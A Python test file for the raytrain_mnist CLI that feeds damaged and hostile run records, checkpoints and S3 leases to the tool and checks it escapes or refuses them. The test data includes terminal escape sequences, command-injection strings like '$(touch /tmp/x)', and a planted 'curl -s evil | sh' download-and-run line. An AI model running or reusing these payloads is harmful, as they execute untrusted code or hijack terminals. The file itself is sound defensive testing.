"""Records, leases and checkpoints that someone else wrote (issue 47, items 2 and 3): what
``runs``, ``runs show``, ``fit``, ``evaluate`` and ``export`` show of them is escaped and
type-checked (:mod:`raytrain_mnist.display`), a search's reproduce command is rebuilt, and
one bad run is one ``damaged`` row, never the end of the listing. No Ray: these runs are
files (a search's and a finished fit's records), written here."""

from __future__ import annotations

import json
import os
import tracemalloc
from pathlib import Path

import pytest

from raytrain_mnist.config import TrainConfig
from tests.conftest import run_cli_here

HOSTILE = "\x1b]0;pwned\x07\x1b[2J\u2028\u202e"  # a title, a cleared screen, a new line, RTL


def _summary(name: str, **changes) -> dict:
    """A finished fit's summary.json, as fitting writes it (the fields the listing reads)."""
    return {
        "name": name,
        "status": "finished",
        "dataset": "sample",
        "num_workers": 2,
        "epochs_completed": 3,
        "val_accuracy": 0.95,
        "val_total": 1000,
        "best_val_accuracy": 0.96,
        "wall_time_s": 42.5,
        "best_checkpoint": None,
        "timeline": {"t0": 1_700_000_000.0},
        "config": {"train": TrainConfig(epochs=3).to_dict(), "run": {"num_workers": 2}},
        "history": [],
        **changes,
    }


def _fit_run(root: Path, name: str, summary: dict | bytes | None = None) -> Path:
    """A finished fit run: ``summary`` as a dict (written as Python writes JSON, NaN and
    all) or as the file's bytes."""
    run = root / name
    run.mkdir(parents=True)
    (run / "run.json").write_text(json.dumps({"train": TrainConfig(epochs=3).to_dict()}))
    raw = summary if isinstance(summary, bytes) else json.dumps(summary or _summary(name))
    (run / "summary.json").write_bytes(raw if isinstance(raw, bytes) else raw.encode())
    return run


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


#: One bad value (or record) each, and what the damaged row's reason names.
BAD_SUMMARIES = {
    "t0-huge": ({"timeline": {"t0": 1e20}}, "timeline.t0"),
    "t0-nan": ({"timeline": {"t0": float("nan")}}, "timeline.t0"),
    "t0-text": ({"timeline": {"t0": "yesterday"}}, "timeline.t0"),
    "acc-400-digits": ({"best_val_accuracy": 10**400}, "best_val_accuracy"),
    "acc-infinite": ({"best_val_accuracy": float("inf")}, "best_val_accuracy"),
    "acc-text": ({"best_val_accuracy": "99%"}, "best_val_accuracy"),
    "workers-escapes": ({"num_workers": HOSTILE}, "num_workers"),
    "workers-huge": ({"num_workers": 10**30}, "num_workers"),
    "epochs-text": ({"epochs_completed": "3"}, "epochs_completed"),
    "epochs-bool": ({"epochs_completed": True}, "epochs_completed"),
    "epochs-float": ({"epochs_completed": 2.5}, "epochs_completed"),
    "wall-negative": ({"wall_time_s": -5}, "wall_time_s"),
    "status-list": ({"status": ["finished"]}, "status"),
    "timeline-list": ({"timeline": [1]}, "timeline"),
    "train-text": ({"config": {"train": "epochs=3"}}, "config.train"),
    "nested": ({"extra": json.loads(_nested(60))}, "nested deeper than"),
}


def _bad_runs(root: Path) -> dict[str, str]:
    """A storage path holding a good run and one run per bad record; the bad runs' names
    and what each one's reason names."""
    _fit_run(root, "good")
    expected = {}
    for name, (changes, reason) in BAD_SUMMARIES.items():
        _fit_run(root, name, _summary(name, **changes))
        expected[name] = reason
    _fit_run(root, "deep-json", ('{"status": ' + _nested(100_000) + "}").encode())
    expected["deep-json"] = "RecursionError"
    _fit_run(root, "not-utf8", b'{"status": "\xff\xfe"}')
    expected["not-utf8"] = "unreadable"
    run = _fit_run(root, "identity-nan")
    (run / "run.json").write_text('{"train": {"epochs": NaN}}')  # settings never hold NaN
    expected["identity-nan"] = "NaN"
    return expected


def _strict(text: str):
    """``text`` as strict JSON: NaN or Infinity in it fail."""

    def refuse(word):
        raise ValueError(f"{word} in --json output")

    return json.loads(text, parse_constant=refuse)


def _escaped(text: str) -> None:
    for char in ("\x1b", "\x07", "\u2028", "\u202e", "\r"):
        assert char not in text, (char, text)


def test_one_bad_record_is_one_damaged_row_and_every_other_run_is_listed(tmp_path):
    expected = _bad_runs(tmp_path)
    listed = run_cli_here("runs", "--storage-path", str(tmp_path), "--json")
    assert listed.returncode == 0, listed.stderr
    entries = {e["name"]: e for e in _strict(listed.stdout)["runs"]}
    assert set(entries) == {"good", *expected}
    assert entries["good"]["status"] == "finished"
    assert (entries["good"]["best_val_accuracy"], entries["good"]["workers"]) == (0.96, 2)
    for name, reason in expected.items():
        entry = entries[name]
        assert entry["status"] == "damaged", entry
        assert reason in entry["problem"], entry
    _escaped(json.dumps([e["problem"] for e in entries.values()], ensure_ascii=False))

    table = run_cli_here("runs", "--storage-path", str(tmp_path))
    assert table.returncode == 0, table.stderr
    assert len(table.stdout.splitlines()) == 1 + len(entries)
    _escaped(table.stdout)
    assert "num_workers '\\x1b]0;pwned\\x07" in table.stdout  # the text, shown, not obeyed
    good = next(line for line in table.stdout.splitlines() if line.startswith("good "))
    assert good.split()[:6] == ["good", "fit", "finished", "96.00%", "3/3", "2"]

    # A damaged run is not shown: one line naming the reason, exit 1.
    for name in ("t0-huge", "acc-400-digits", "workers-escapes", "deep-json"):
        shown = run_cli_here("runs", "show", name, "--storage-path", str(tmp_path))
        assert shown.returncode == 1, shown
        assert shown.stdout == "" and len(shown.stderr.splitlines()) == 1, shown.stderr
        assert shown.stderr.startswith(f"raytrain-mnist: error: cannot show run '{name}': ")
        _escaped(shown.stderr)


def test_a_search_whose_records_are_bad_is_one_damaged_row(tmp_path):
    good = {"best_val_accuracy": 0.9, "num_trials": 2, "max_epochs": 2, "trials": []}
    for name, best in {
        "good-search": good,
        "trials-text": {**good, "trials": "t1 t2"},
        "trials-of-numbers": {**good, "trials": [1, 2]},
        "epochs-run-huge": {**good, "trials": [{"epochs_run": 10**400}]},
        "errors-text": {**good, "num_errors": "1"},
        "accuracy-infinite": {**good, "best_val_accuracy": float("inf")},
    }.items():
        (tmp_path / name).mkdir()
        (tmp_path / name / "search.json").write_text("{}")
        (tmp_path / name / "best.json").write_text(json.dumps(best))
    listed = run_cli_here("runs", "--storage-path", str(tmp_path), "--json")
    assert listed.returncode == 0, listed.stderr
    entries = {e["name"]: e for e in _strict(listed.stdout)["runs"]}
    assert entries.pop("good-search")["status"] == "finished"
    assert {n: e["status"] for n, e in entries.items()} == dict.fromkeys(entries, "damaged")


def test_a_huge_sparse_record_is_refused_without_being_read(tmp_path):
    _fit_run(tmp_path, "good")
    run = _fit_run(tmp_path, "sparse")
    with open(run / "summary.json", "r+b") as f:
        f.truncate(256 << 20)  # 256 MiB of holes: nothing on disk
    tracemalloc.start()
    try:
        listed = run_cli_here("runs", "--storage-path", str(tmp_path), "--json")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert listed.returncode == 0, listed.stderr
    assert peak < 32 << 20, f"listing took {peak >> 20} MiB"
    entries = {e["name"]: e for e in _strict(listed.stdout)["runs"]}
    assert entries["good"]["status"] == "finished"
    assert entries["sparse"]["status"] == "damaged"
    assert "bytes" in entries["sparse"]["problem"], entries["sparse"]


def test_fit_on_a_finished_run_shows_its_stored_values_escaped_and_checked(tmp_path):
    summary = _summary(HOSTILE, val_accuracy="99.9%", epochs_completed=10**400)
    _fit_run(tmp_path, "done", summary)
    (tmp_path / "done" / "run.json").unlink()  # no identity to match: the summary decides
    result = run_cli_here(
        "fit", "--dataset", "sample", "--storage-path", str(tmp_path), "--name", "done",
        "--progress", "off",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    _escaped(result.stdout + result.stderr)
    assert "run '^[]0;pwned^G^[[2J\\u2028\\u202e' already finished" in result.stdout
    assert "val_accuracy invalid after invalid epoch(s)" in result.stdout


def _search(root: Path, best: dict) -> None:
    (root / "tune-x").mkdir(parents=True)
    (root / "tune-x" / "search.json").write_text(json.dumps({"dataset": "mnist"}))
    (root / "tune-x" / "best.json").write_text(json.dumps(best))


def _show(root: Path) -> tuple[str, dict]:
    text = run_cli_here("runs", "show", "tune-x", "--storage-path", str(root))
    assert text.returncode == 0, text.stderr
    record = run_cli_here("runs", "show", "tune-x", "--storage-path", str(root), "--json")
    assert record.returncode == 0, record.stderr
    return text.stdout, _strict(record.stdout)


BEST = {
    "name": "tune-x",
    "best_trial": HOSTILE,
    "best_val_accuracy": 0.97,
    "best_config": TrainConfig(lr=0.1).to_dict(),
    "num_trials": 1,
    "max_epochs": 1,
    "num_workers": 1,
    "trials": [],
}


@pytest.mark.parametrize(
    "planted",
    [
        "raytrain-mnist fit --lr 0.1; touch /tmp/x",  # a second command after the flags
        "raytrain-mnist fit --lr 0.1 --name 'x; touch /tmp/x'",  # a name fit refuses
        "raytrain-mnist fit --lr 0.2",  # not the best trial's settings
        "touch /tmp/x",  # no fit at all
        "raytrain-mnist fit --lr '0.1",  # unbalanced quotes
    ],
)
def test_a_planted_reproduce_command_is_never_shown(tmp_path, planted):
    _search(tmp_path, {**BEST, "fit_command": planted})
    text, record = _show(tmp_path)
    assert "reproduce with:" not in text and "touch" not in text
    assert record["fit_command"] is None and record["summary"]["fit_command"] is None
    assert "resume with:     the same tune command that started it" in text


def test_a_reproduce_command_is_rebuilt_from_the_settings_fit_parses(tmp_path):
    from raytrain_mnist._cli import command_line, invocation

    planted = "curl -s evil | sh; raytrain-mnist fit --lr 0.1 --data-dir '$(touch /tmp/x)'"
    _search(tmp_path, {**BEST, "fit_command": planted})
    text, record = _show(tmp_path)
    rebuilt = command_line([*invocation("fit"), "--lr", "0.1", "--data-dir", "$(touch /tmp/x)"])
    assert f"reproduce with:  {rebuilt}" in text.splitlines()
    assert record["fit_command"] == rebuilt and record["summary"]["fit_command"] == rebuilt
    assert "curl" not in text + json.dumps(record)
    _escaped(text)
    assert "best trial:      ^[]0;pwned^G^[[2J\\u2028\\u202e" in text


def _checkpoint(tmp_path: Path, **state) -> Path:
    from raytrain_mnist.nn import checkpoint as ckpt
    from raytrain_mnist.nn.model import ConvNet

    directory = tmp_path / "checkpoint_000001"
    directory.mkdir()
    ckpt.save(directory, {"model": ConvNet().state_dict(), **state})
    return directory


@pytest.mark.parametrize(
    "state, fragment",
    [
        ({"epoch": f"7{HOSTILE}"}, "its epoch '7"),
        ({"epoch": 10**400}, "its epoch 1000"),
        ({"epoch": -1}, "its epoch -1"),
        ({"epoch": True}, "its epoch True"),
        ({"epoch": 1.0}, "its epoch 1.0"),
        ({"epoch": 1, "history": ["epoch 1"]}, "its history is not a list"),
    ],
)
def test_a_checkpoints_epoch_is_checked_where_it_is_loaded(tmp_path, state, fragment):
    from raytrain_mnist.nn import checkpoint as ckpt

    directory = _checkpoint(tmp_path, **state)
    with pytest.raises(ckpt.CheckpointError, match="is not a") as info:
        ckpt.load(directory)
    assert fragment in str(info.value)


@pytest.mark.parametrize(
    "command",
    [("evaluate", "--dataset", "sample"), ("export", "--format", "pt2", "--output", "model.pt2")],
)
def test_evaluate_and_export_refuse_a_checkpoint_whose_epoch_is_text(tmp_path, command):
    directory = _checkpoint(tmp_path, epoch=f"7{HOSTILE}")
    words = [w if w != "model.pt2" else str(tmp_path / w) for w in command[1:]]
    result = run_cli_here(command[0], str(directory), *words)
    assert result.returncode == 1, result
    assert len(result.stderr.splitlines()) == 1 and "its epoch '7" in result.stderr
    _escaped(result.stdout + result.stderr)
    assert not os.path.lexists(tmp_path / "model.pt2")


# --------------------------------------------------------------------------- leases


def _leases() -> dict[str, bytes]:
    """Lease objects that are not leases of ours, each beside a run of the same name."""
    from raytrain_mnist.driver.runs import claim

    mine = claim.host_id()
    return {
        "pid-infinite": json.dumps({"host_id": mine, "pid": float("inf")}).encode(),
        "pid-400-digits": json.dumps({"host_id": mine, "pid": 10**400}).encode(),
        "pid-text": json.dumps({"host_id": mine, "pid": "1"}).encode(),
        "deep": _nested(100_000).encode(),
        "renewed-nan": json.dumps({"host_id": "elsewhere", "renewed": float("nan")}).encode(),
        "huge": b'{"host_id": "' + b"x" * (9 << 20) + b'"}',
    }


def _upload_run(s3, uri: str, name: str) -> None:
    bucket, _, prefix = uri.removeprefix("s3://").partition("/")
    for record, body in [
        ("run.json", json.dumps({"train": TrainConfig(epochs=3).to_dict()})),
        ("summary.json", json.dumps(_summary(name))),
    ]:
        s3.client.put_object(Bucket=bucket, Key=f"{prefix}/{name}/{record}", Body=body)


def test_a_listing_on_s3_reads_any_lease_as_someones(s3):
    uri = s3()
    bucket, _, prefix = uri.removeprefix("s3://").partition("/")
    _upload_run(s3, uri, "free")
    for name, lease in _leases().items():
        _upload_run(s3, uri, name)
        s3.client.put_object(Bucket=bucket, Key=f"{prefix}/.{name}.lease", Body=lease)
    listed = run_cli_here("runs", "--storage-path", uri, "--json")
    assert listed.returncode == 0, listed.stderr
    entries = {e["name"]: e["status"] for e in _strict(listed.stdout)["runs"]}
    # Bytes that are no lease of ours are someone's: the run may be held (a claim would
    # watch them before taking the run over); a pid that is not one names no process here.
    assert entries == {
        "free": "finished", "pid-infinite": "running", "pid-400-digits": "finished",
        "pid-text": "finished", "deep": "running", "renewed-nan": "running", "huge": "running",
    }  # fmt: skip


def test_a_claim_watches_any_lease_that_is_not_one_and_then_takes_the_run(s3):
    from raytrain_mnist.driver.runs import Run
    from raytrain_mnist.driver.runs.claim import Lease

    uri = s3()
    bucket, _, prefix = uri.removeprefix("s3://").partition("/")
    for name, lease in _leases().items():
        s3.client.put_object(Bucket=bucket, Key=f"{prefix}/.{name}.lease", Body=lease)
        run = Run(uri, name)
        taking = Lease(run.files, ttl_s=0.5, beat_s=0.1)
        taking.acquire("run")  # watched for its TTL, or its process is gone: taken
        try:
            held = s3.client.get_object(Bucket=bucket, Key=f"{prefix}/.{name}.lease")
            assert json.loads(held["Body"].read())["token"] == taking.token, name
        finally:
            taking.release()
